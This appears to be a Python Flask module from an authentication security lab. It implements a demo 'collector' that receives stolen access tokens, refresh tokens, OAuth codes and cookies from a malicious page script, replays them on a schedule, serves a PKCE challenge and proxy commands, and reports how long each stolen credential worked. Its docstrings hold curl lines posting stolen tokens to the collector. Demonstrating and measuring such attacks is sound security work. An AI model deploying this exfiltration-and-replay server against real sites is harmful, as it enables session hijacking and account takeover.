"""The collector's endpoints: what a malicious script calls (collect, pkce, commands) and what the page and the tests
read (records, replay). Every body is JSON; every error is the API's `{"error", "message"}`."""

import hashlib
import re

from authlib.common.security import generate_token
from authlib.oauth2.rfc7636 import create_s256_code_challenge
from flask import Blueprint, current_app, jsonify, request

from backend import clock
from backend.web.errors import ApiError
from backend.web.request_bodies import json_body, text_field

from . import loot_store, schedule

bp = Blueprint("collector", __name__)

RUN = re.compile(r"[A-Za-z0-9_-]{1,64}")
KINDS = ("access_token", "refresh_token", "code", "cookies", "proxied")
SECRETS = ("access_token", "refresh_token", "code", "cookies", "verifier")  # never in a record
LABELS = ("payload", "architecture", "storage")  # free text the page files the item under (its table's axes)
MAX_VALUE = 8192
# The one request the collector asks a page to proxy (§5.1.4): the API's path; through a BFF the payload calls
# /bff/api/<the same path without /api/>.
PROXY_COMMAND = {"id": "me", "method": "GET", "path": "/api/jwt/me"}


@bp.before_request
def demo_only():
    """The whole collector is a demo of an attack: off (404) with the demo options."""
    if not current_app.config["DEMO_COOKIE_OPTIONS"]:
        raise ApiError(404, "not_found", "the collector is a demo feature, off when DEMO_COOKIE_OPTIONS is off")


def _run(value):
    if not isinstance(value, str) or not RUN.fullmatch(value):
        raise ApiError(400, "invalid_request", "`run` must be 1-64 letters, digits, '-' or '_'")
    return value


def _public_clients():
    """The public browser clients a stolen refresh token or code may belong to, and their redirect URIs."""
    config = current_app.config
    return {"authlab-a": config["FRONTEND_A_ORIGIN"] + "/", "authlab-b": config["FRONTEND_B_ORIGIN"] + "/"}


def _optional(body, name, limit):
    """A text field that may be absent or empty ("")."""
    return text_field(body, name, limit=limit) if body.get(name, "") != "" else ""


def _item(body, run, now):
    """The received item, checked: the values its kind needs, labels, and when it came."""
    kind = text_field(body, "kind", choices=KINDS)
    item = {"kind": kind, "received_at": now, **{label: _optional(body, label, 64) for label in LABELS}}
    if kind in ("access_token", "refresh_token", "code"):
        item[kind] = text_field(body, kind, limit=MAX_VALUE)
    if kind in ("refresh_token", "code"):
        item["client_id"] = text_field(body, "client_id", choices=tuple(_public_clients()))
    if kind == "code":
        item["redirect_uri"] = _public_clients()[item["client_id"]]
        item["verifier"] = loot_store.verifier(run, lambda: generate_token(64), now)
    if kind == "cookies":
        item["cookies"] = _optional(body, "cookies", MAX_VALUE)  # document.cookie: often empty
        item["site"] = text_field(body, "site", choices=("a", "b"))
    if kind == "proxied":
        item["status"] = body.get("status")
        if not isinstance(item["status"], int) or not 100 <= item["status"] <= 599:
            raise ApiError(400, "invalid_request", "`status` must be the HTTP status the proxied request got")
        answer = body.get("body") if isinstance(body.get("body"), dict) else {}
        item["error"] = str(answer.get("error"))[:64] if "error" in answer else None
    return item


@bp.post("/collect")
def collect():
    """curl -s -H 'Content-Type: application/json' -d '{"run": "r1", "kind": "access_token", "access_token": "ey..."}'
    127.0.0.1:8006/collect   # used at once (the answer says how it went), then again after each delay."""
    body = json_body()
    now = clock.now()
    run = _run(body.get("run"))
    item = _item(body, run, now)
    index = loot_store.add_item(run, item, now)
    if index is None:
        raise ApiError(429, "rate_limited", f"run {run} holds {loot_store.MAX_ITEMS} items already; start another run",
                       {"Retry-After": str(loot_store.expires_in(run, now) or 1)})
    if item["kind"] == "proxied":  # the page made the request: record it as an attempt through the open page
        record = {"item": index, "at": now, "after": 0.0, "trigger": "through the open page", "how": "proxied "
                  + PROXY_COMMAND["path"], "status": item["status"], "worked": 200 <= item["status"] < 300,
                  "error": item["error"], "message": None}
        loot_store.add_attempt(run, record, now)
        return jsonify(item=index, attempt=record), 201
    record = schedule.attempt(run, index, "at once", now)
    schedule.plan(run, index, now, current_app.config["COLLECTOR_DELAY_LIST"], loot_store.deadline(run, now))
    return jsonify(item=index, attempt=record), 201


@bp.get("/pkce")
def pkce():
    """curl -s '127.0.0.1:8006/pkce?run=r1'   # the S256 challenge for the script's silent flow; the verifier stays."""
    run, now = _run(request.args.get("run")), clock.now()
    verifier = loot_store.verifier(run, lambda: generate_token(64), now)
    return jsonify(code_challenge=create_s256_code_challenge(verifier), code_challenge_method="S256")


@bp.get("/commands")
def commands():
    """curl -s '127.0.0.1:8006/commands?run=r1'   # what the proxying script (§5.1.4) should request next."""
    _run(request.args.get("run"))
    return jsonify(commands=[PROXY_COMMAND])


@bp.post("/replay")
def replay():
    """curl -s -X POST '127.0.0.1:8006/replay?run=r1'   # use everything of the run once more, now."""
    run, now = _run(request.args.get("run")), clock.now()
    items = loot_store.items(run)
    ran = [schedule.attempt(run, index, "on demand", now) for index, item in enumerate(items)
           if item["kind"] != "proxied"]
    return jsonify(attempts=[record for record in ran if record])


def _summary(index, item, attempts):
    """One item as the page's table needs it: no secret, every attempt, until when it worked, why it stopped."""
    mine = [a for a in attempts if a["item"] == index]
    worked = [a for a in mine if a["worked"]]
    refused = next((a for a in mine if not a["worked"] and (not worked or a["at"] > worked[-1]["at"])), None)
    shown = {k: v for k, v in item.items() if k not in SECRETS}
    value = next((item[k] for k in ("access_token", "refresh_token", "code") if item.get(k)), None)
    if value:
        shown["fingerprint"] = "sha256:" + hashlib.sha256(value.encode()).hexdigest()[:12]
    return {**shown, "item": index, "attempts": mine, "worked_until": worked[-1]["at"] if worked else None,
            "refused": refused and {k: refused[k] for k in ("at", "status", "error", "message")}}


@bp.get("/records")
def records():
    """curl -s '127.0.0.1:8006/records?run=r1'   # what arrived, each use, until when it worked, and why not after."""
    run, now = _run(request.args.get("run")), clock.now()
    attempts = loot_store.attempts(run)
    items = [_summary(index, item, attempts) for index, item in enumerate(loot_store.items(run))]
    return jsonify(run=run, expires_in=loot_store.expires_in(run, now), items=items), 200, {"Cache-Control": "no-store"}
